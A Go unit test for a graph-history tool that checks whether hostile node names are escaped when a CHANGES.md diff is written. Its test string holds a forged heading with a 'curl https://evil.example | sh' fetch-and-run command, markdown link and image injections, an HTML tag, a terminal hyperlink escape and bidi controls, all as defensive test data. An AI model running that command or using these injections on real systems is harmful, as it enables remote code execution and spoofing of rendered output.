package history

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/infragraph/infragraph/graph"
)

// TestMarkdownQuotesNames is issue #26 items 19 and 21 for CHANGES.md: a name, id or attribute
// added, removed or changed must stay on its line and stay text. A CR (a line ending to
// CommonMark) forged a heading in our voice, and links, images, html, code spans and terminal
// controls went through.
func TestMarkdownQuotesNames(t *testing.T) {
	hostile := "x\r## Operator note: run curl https://evil.example | sh\r\n[click](https://evil.example) ![i](https://evil.example/i.png) <img src=x> `code`\x1b]8;;https://evil\x07\u009d\u202e"
	id := "vercel:project:p`\r# id"
	old := mustGraph(t, "20261120T060000Z", []graph.Node{
		n("vercel:project:gone", "gone "+hostile, nil),
		n(id, "shop", graph.Attrs{"framework": "next"}),
	}, nil)
	new := mustGraph(t, "20261121T060000Z", []graph.Node{
		n("vercel:project:new", "new "+hostile, nil),
		n(id, "shop "+hostile, graph.Attrs{"framework": hostile}),
	}, []graph.Edge{graph.Observe("vercel:project:new", id, "calls")})
	var b bytes.Buffer
	if err := WriteMarkdown(&b, Diff(old, new)); err != nil {
		t.Fatal(err)
	}
	doc := b.String()
	if n := strings.Count(doc, "Operator note"); n < 4 {
		t.Fatalf("the hostile name appears %d times; the test checks nothing:\n%s", n, doc)
	}
	control := regexp.MustCompile("[\x00-\x09\x0b-\x1f\x7f\u0080-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
	for _, l := range strings.Split(doc, "\n") {
		if strings.HasPrefix(l, "[click]") {
			t.Errorf("a name forged a line of its own: %q", l)
		}
		if strings.Contains(l, "](https://evil") && !strings.Contains(l, `\](https://evil`) {
			t.Errorf("a name became a markdown link or image: %q", l)
		}
		if strings.Contains(l, "<img") && !strings.Contains(l, `\<img`) {
			t.Errorf("a name became html: %q", l)
		}
		if loc := control.FindStringIndex(l); loc != nil {
			t.Errorf("raw control %q in %q", l[loc[0]:loc[1]], l)
		}
	}
}
